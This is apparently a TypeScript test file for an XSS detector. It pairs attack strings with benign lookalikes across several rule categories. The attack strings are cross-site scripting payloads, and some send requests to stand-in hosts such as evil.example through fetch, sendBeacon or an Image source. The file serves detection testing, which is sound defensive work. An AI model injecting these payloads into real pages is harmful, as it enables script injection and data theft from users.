import { xssDetector } from "../src/detectors/xss/index.js";
import { describeRules, type RuleTable, scoreOf } from "./helpers.js";

function score(raw: string): number {
  return scoreOf(xssDetector, raw, "query", "q");
}

const RULES: RuleTable = {
  "leaving a JS string to call any function": {
    attacks: [
      "';fetch('//evil.example')//",
      '");navigator.sendBeacon("//e.example",1);//',
      "'}top.print();{'",
      '"-(0,confirm)(1)-"',
      "\\';open('//x.example')//",
      '"}];console.log(1);//',
    ],
    benign: ["'hello'; call(me) maybe", "'; it's fine", '"quoted" (see note) //', "');", "'-' is a dash", '"x"; y(z) and more'],
  },
  "a property write after a call or bracket": {
    attacks: ["new Image().src='//evil.example/?'+1", "a[0].innerHTML='<b>x</b>'"],
    benign: ["if (img.src == other.src)", "Image().src is a property"],
  },
  "words in angle brackets": {
    attacks: ["<select onfocus=alert(1) autofocus>", "<input autofocus>", "<a href=//evil.example>x</a>"],
    benign: ["<select the best>", "<order by price>", "<set the table>", "<update your profile>"],
  },
  "a bare tag glued between letters": {
    attacks: ["<b>bold</b>", "x<script>y", "a<img src=x>c"],
    benign: ["a<b>c", "x<i>y", "1<p>2"],
  },
};

describeRules("xssDetector on script and markup shapes", score, RULES);
